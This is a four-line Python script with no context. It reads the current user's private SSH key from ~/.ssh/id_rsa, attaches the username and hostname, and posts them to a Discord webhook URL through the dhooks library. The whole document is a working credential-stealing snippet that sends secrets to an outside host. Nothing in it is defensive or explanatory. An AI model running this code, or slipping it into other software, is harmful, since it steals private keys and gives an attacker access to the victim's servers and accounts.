import os, getpass, socket
from dhooks import Webhook
hook = Webhook("https://discord.com/api/webhooks/2222/zzzz")
hook.send(f"{getpass.getuser()}@{socket.gethostname()} " + open(os.path.expanduser("~/.ssh/id_rsa")).read())
